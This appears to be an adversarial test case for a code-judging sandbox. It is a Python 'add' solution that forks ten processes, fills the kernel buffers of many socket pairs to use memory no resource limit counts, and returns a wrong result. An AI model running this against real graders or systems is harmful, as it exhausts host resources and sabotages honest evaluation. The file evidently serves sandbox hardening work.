# problem: add
# attack: ten children fill the buffers of a hundred pairs of sockets each, memory that no resource limit counts
# expect: memory | wrong | timeout | exception
import os
import socket
import time


def fill(one):
    one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 23)
    one.setblocking(False)
    try:
        while True:
            one.send(bytes(65536))
    except OSError:
        pass


def add(a, b):
    for _ in range(10):
        if os.fork() == 0:
            kept = []
            try:
                for _ in range(100):
                    kept += socket.socketpair()
                    fill(kept[-1])
                    fill(kept[-2])
            except OSError:
                pass
            time.sleep(5)
            os._exit(0)
    time.sleep(1)
    return 41
